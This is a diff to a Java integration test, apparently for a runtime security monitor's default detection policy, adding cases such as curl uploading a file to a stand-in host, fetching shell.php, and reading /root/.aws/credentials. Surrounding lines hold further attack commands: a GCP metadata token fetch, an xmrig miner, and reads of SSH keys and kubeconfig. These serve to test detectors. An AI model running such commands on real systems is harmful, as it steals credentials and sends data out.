@@ -240,6 +240,9 @@ class DefaultPolicyIT {
                 "gcp_imds",
                 "wget",
                 "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"));
+        cases.add(execOf("net_util_exfiltration_v2", "curl", "--upload-file", "/etc/hostname", "http://x.invalid/"));
+        cases.add(execOf("net_unusual_request_v2", "curl", "http://x.invalid/shell.php"));
+        cases.add(under("potential_web_shell_parent_v2", "nginx", "/bin/sh -c :", "/usr/bin/dash"));
         cases.add(execOf("cryptominer_args", "xmrig", "-o", "stratum+tcp://pool.invalid:3333"));
         cases.add(execOf("php_shell", "php", "-r", "socket_create(AF_INET, SOCK_STREAM, 0);"));
         cases.add(execOf("lateral_movement_tool", "chisel", "client"));
@@ -282,6 +285,7 @@ class DefaultPolicyIT {
         cases.add(new Case("drop_caches", () -> run("/bin/cat", "/proc/sys/vm/drop_caches"), "/usr/bin/cat"));
         cases.add(new Case("read_kubeconfig", () -> run("/bin/cat", "/root/.kube/config"), "/usr/bin/cat"));
         cases.add(new Case("credential_category_ssh", () -> run("/bin/cat", "/root/.ssh/id_rsa"), "/usr/bin/cat"));
+        cases.add(new Case("credential_category_aws", () -> run("/bin/cat", "/root/.aws/credentials"), "/usr/bin/cat"));
         cases.add(shell("open_msr_writes", ": > /sys/module/msr/parameters/allow_writes"));
         cases.add(shell("cron_at_job_creation_open", ": > /etc/cron.d/" + MINE));
         cases.add(shell("kernel_module_open", ": > /etc/modprobe.d/" + MINE + ".conf"));
@@ -329,6 +333,7 @@ class DefaultPolicyIT {
         // chmod, chown, utimes, rename, link, unlink of files of the test's own where the rules watch
         cases.addAll(fileCalls("cron_at_job_creation", "/etc/cron.d", MINE + "-calls"));
         cases.addAll(fileCalls("pam_modification", "/etc/pam.d", MINE + "-calls"));
+        cases.addAll(fileCalls("kernel_module", "/etc/modprobe.d", MINE + "-calls.conf"));
         cases.addAll(fileCalls("systemd_modification", "/etc/systemd/system", MINE + "-calls.service"));
         cases.addAll(fileCalls("sudoers_policy_modified", "/etc/sudoers.d", MINE + "-calls"));
         cases.addAll(fileCalls("ssl_certificate_tampering", "/etc/ssl/certs", MINE + "-calls.pem"));
